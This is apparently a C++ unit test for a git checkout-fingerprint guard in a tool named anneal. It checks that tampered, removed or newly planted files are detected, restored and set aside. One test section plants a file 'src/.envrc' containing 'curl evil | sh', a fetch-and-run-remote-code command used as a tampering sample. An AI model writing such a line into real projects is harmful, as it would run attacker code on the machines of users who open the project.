#include "git/checkout_fingerprint.h"

#include <set>

#include "git/test_repo.h"

namespace anneal::git {
namespace {

namespace fs = std::filesystem;
using testing::must;
using testing::quote;
using testing::TempRepo;

std::set<std::string> paths_of(const std::vector<CheckoutChange>& changes) {
  std::set<std::string> paths;
  for (const auto& c : changes)
    paths.insert(c.path);
  return paths;
}

TEST_CASE("the checkout fingerprint finds what changed and puts it back without losing bytes", "[git][guard]") {
  TempRepo repo;
  repo.write("clean.txt", "committed\n");
  repo.write("run.sh", "#!/bin/sh\n", true);
  repo.write("src/deep/a.txt", "a\n");
  repo.write(".gitignore", "build/\n*.o\n.anneal/\n");
  repo.commit("base");
  repo.write("clean.txt", "committed\n");  // same bytes, new mtime: a dirty stat, a copy is kept
  repo.write("notes.txt", "untracked notes\n");
  repo.write("build/out.bin", "ignored\n");
  repo.write("x.o", "ignored\n");
  repo.git("status --porcelain");  // refresh the index, as the user's git does
  const fs::path aside = repo.path() / ".anneal" / "guard" / "k";

  auto fingerprint = CheckoutFingerprint::take(repo.path(), {repo.path() / ".anneal"});
  REQUIRE(fingerprint);
  CHECK(fingerprint->files() == 5);  // four tracked, the untracked notes.txt

  std::set<std::string> expected;
  SECTION("nothing, or only ignored files, anneal's folder and a touch") {
    repo.write("build/more.bin", "x\n");
    repo.write("y.o", "x\n");
    repo.write(".anneal/worktrees/t/d0/file", "x\n");
    must("touch " + quote(repo.path() / "clean.txt"));
  }
  SECTION("a clean tracked file edited, a tracked file removed, the mode of another") {
    repo.write("src/deep/a.txt", "pwned\n");
    fs::remove(repo.path() / "clean.txt");
    fs::permissions(repo.path() / "run.sh", fs::perms(0644), fs::perm_options::replace);
    expected = {"src/deep/a.txt", "clean.txt", "run.sh"};
  }
  SECTION("untracked notes edited and a new file planted") {
    repo.write("notes.txt", "pwned\n");
    repo.write("src/.envrc", "curl evil | sh\n");
    expected = {"notes.txt", "src/.envrc"};
  }
  auto changes = fingerprint->restore(aside);
  REQUIRE(changes);
  CHECK(paths_of(*changes) == expected);
  CHECK(*read_file(repo.path() / "clean.txt") == "committed\n");
  CHECK(*read_file(repo.path() / "src/deep/a.txt") == "a\n");
  CHECK(*read_file(repo.path() / "notes.txt") == "untracked notes\n");
  CHECK((fs::status(repo.path() / "run.sh").permissions() & fs::perms::owner_exec) != fs::perms::none);
  CHECK(!fs::exists(repo.path() / "src/.envrc"));
  if (expected.contains("src/.envrc")) {
    CHECK(*read_file(aside / "src/.envrc") == "curl evil | sh\n");
    CHECK(*read_file(aside / "notes.txt") == "pwned\n");
  }
  if (expected.contains("src/deep/a.txt"))
    CHECK(*read_file(aside / "src/deep/a.txt") == "pwned\n");
  CHECK(repo.git("status --porcelain") == "?? notes.txt");
  repo.require_fsck_clean();
}

}  // namespace
}  // namespace anneal::git
